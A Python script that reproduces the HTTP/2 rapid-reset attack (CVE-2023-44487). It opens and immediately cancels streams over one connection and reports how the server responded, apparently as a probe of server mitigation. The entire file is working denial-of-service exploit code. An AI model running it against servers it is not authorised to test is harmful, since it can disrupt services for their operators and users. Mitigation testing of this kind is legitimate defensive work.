#!/usr/bin/python3
"""An HTTP/2 client that misbehaves as the rapid-reset attack does (CVE-2023-44487): over one
h2c connection it opens streams and cancels each at once, as fast as it can, then reports how
the server answered, as one JSON line: streams sent, the GOAWAY error code (if any) and
whether the server closed the connection.

usage: rapid_reset.py HOST PORT STREAMS AUTHORITY
"""

import json
import select
import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def main():
    host, port, streams, authority = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    request = [(":method", "GET"), (":path", "/rapid-reset"), (":scheme", "http"), (":authority", authority)]
    report = {"sent": 0, "goaway": None, "closed": False, "responses": 0}

    def take(events):
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                report["goaway"] = int(event.error_code)
            elif isinstance(event, h2.events.ResponseReceived):
                report["responses"] += 1

    def drain(timeout):
        while True:
            ready, _, _ = select.select([sock], [], [], timeout)
            if not ready:
                return
            data = sock.recv(65536)
            if not data:
                report["closed"] = True
                return
            try:
                take(conn.receive_data(data))
            except h2.exceptions.ProtocolError:
                pass
            timeout = 0

    try:
        for _ in range(streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, request, end_stream=True)
            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
            sock.sendall(conn.data_to_send())
            report["sent"] += 1
            drain(0)
            if report["closed"] or report["goaway"] is not None:
                break
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        pass
    try:
        drain(5)
    except (ConnectionResetError, OSError):
        report["closed"] = True
    print(json.dumps(report))


if __name__ == "__main__":
    main()
